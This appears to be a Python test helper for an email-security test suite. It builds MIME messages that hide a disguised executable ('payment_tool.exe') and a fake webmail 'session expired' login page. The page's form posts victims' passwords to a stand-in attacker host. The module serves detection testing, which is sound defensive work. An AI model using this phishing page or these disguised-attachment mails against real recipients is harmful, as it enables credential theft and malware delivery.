"""What evasions hide, and mails to hide it in."""

import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.judged.arriving import US
from tests.judged.mime import _base64
from tests.judged.third.programs import pe

SENDER = "office@evade-three.site"
B64 = "Content-Transfer-Encoding: base64\r\n"
HELLO = "Content-Type: text/plain; charset=us-ascii\r\n\r\nHello,\r\nthe file that you asked for.\r\n"


@dataclass(frozen=True)
class Payload:
    """What is hidden: its name, its media type, its octets."""

    name: str
    media: str
    content: bytes

    @property
    def coded(self) -> str:
        return _base64(self.content)

    @property
    def stem(self) -> str:
        return self.name.rpartition(".")[0]

    @property
    def ending(self) -> str:
        return self.name.rpartition(".")[2]

    @property
    def shown(self) -> str:
        """As a page: itself, or a page that hands out the program."""
        if self.media == "text/html":
            return self.content.decode()
        one_line = self.coded.replace("\r\n", "")
        return f'<html><body><a download="{self.name}" href="data:application/octet-stream;base64,{one_line}">Open the document</a></body></html>'


PAGE = (
    b"<!DOCTYPE html><html><head><title>Webmail</title></head><body><h1>Webmail</h1><p>Your session has expired. Please sign in again.</p>"
    b'<form action="https://evade-three.site/s.php" method="post"><input name="mail" value="y.sato@corp.example">'
    b'<input name="pass" type="password"><input type="submit" value="Sign in"></form></body></html>'
)
PAYLOADS = (
    Payload("payment_tool.exe", "application/x-msdownload", pe(b"third")),
    Payload("webmail.html", "text/html", PAGE),
)
Build = Callable[[Payload], bytes]


def whole(fields: str, body: str | bytes, subject: str = "The file") -> bytes:
    """A mail of these MIME fields and body."""
    octets = body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body
    number = zlib.crc32(octets + fields.encode("utf-8", "surrogateescape"))
    head = (
        f"From: Office <{SENDER}>\r\nTo: <{US[1]}>\r\nSubject: {subject}\r\nDate: Wed, 18 Nov 2026 08:41:20 +0900\r\n"
        f"Message-ID: <{number:08x}@evade-three.site>\r\nMIME-Version: 1.0\r\n{fields}\r\n"
    )
    return head.encode("utf-8", "surrogateescape") + octets


def parts(*inner: str, boundary: str = "frontier", subtype: str = "mixed", more: str = "") -> bytes:
    """A mail of several parts."""
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in inner) + f"--{boundary}--\r\n"
    return whole(f'Content-Type: multipart/{subtype}; boundary="{boundary}"{more}\r\n', body)


def attached(p: Payload) -> str:
    """The payload as an honest attachment."""
    return f'Content-Type: {p.media}\r\nContent-Disposition: attachment; filename="{p.name}"\r\n{B64}\r\n{p.coded}\r\n'


def one(p: Payload, fields: str, body: str = "") -> bytes:
    """A text, and a part of these fields."""
    return parts(HELLO, f"{fields}\r\n{body or p.coded}\r\n")


def carried(name: str, content: bytes, media: str = "application/octet-stream") -> bytes:
    """A text, and a file that holds the payload."""
    return parts(
        HELLO,
        f'Content-Type: {media}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n{B64}\r\n{_base64(content)}\r\n',
    )
